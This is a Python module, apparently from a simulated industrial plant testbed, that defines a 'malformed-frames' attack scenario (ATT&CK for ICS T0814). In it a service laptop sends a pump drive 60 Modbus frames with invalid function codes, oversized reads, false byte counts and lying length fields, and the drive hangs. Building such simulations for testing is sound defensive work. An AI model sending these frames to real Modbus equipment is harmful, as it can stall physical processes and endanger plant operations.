"""Messages that no client sends: lengths that lie, functions that do not exist, counts beyond all bounds."""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING, Final

from interlock.plant.actors.steps import Ask, Link, Wait
from interlock.plant.attacks.scenario import Scenario, Scene
from interlock.plant.protocols import modbus

if TYPE_CHECKING:
    from interlock.plant.actors.steps import Script

__all__ = ["SCENARIO"]

_TRIES: Final = 60


def _script(scene: Scene) -> Script:
    link = Link("vendor-laptop", "drive-pump", 502)
    for k in range(_TRIES):
        octets = bytes(scene.draws.number(8) for _ in range(12))
        wrong = (
            modbus.adu(k, 1, bytes((0x64 + k % 16,)) + octets[:4]),
            modbus.adu(k, 1, modbus.read(3, 0, 2000)),
            modbus.adu(k, 1, struct.pack("!BHHB", 16, 0, 4, 200) + octets),
            struct.pack("!HHHB", k, 7, 900, 1) + octets,
        )
        yield Ask(link, wrong[k % len(wrong)])
        yield Wait(scene.draws.uniform(0.2, 0.6))


SCENARIO: Final = Scenario(
    name="malformed-frames",
    title="A service laptop sends the pump's drive messages that break the rules of Modbus",
    technique="T0814",
    attacker="vendor-laptop",
    victims=("drive-pump",),
    harm="Nothing moves here; weaker drives hang and the pump stands.",
    script=_script,
)
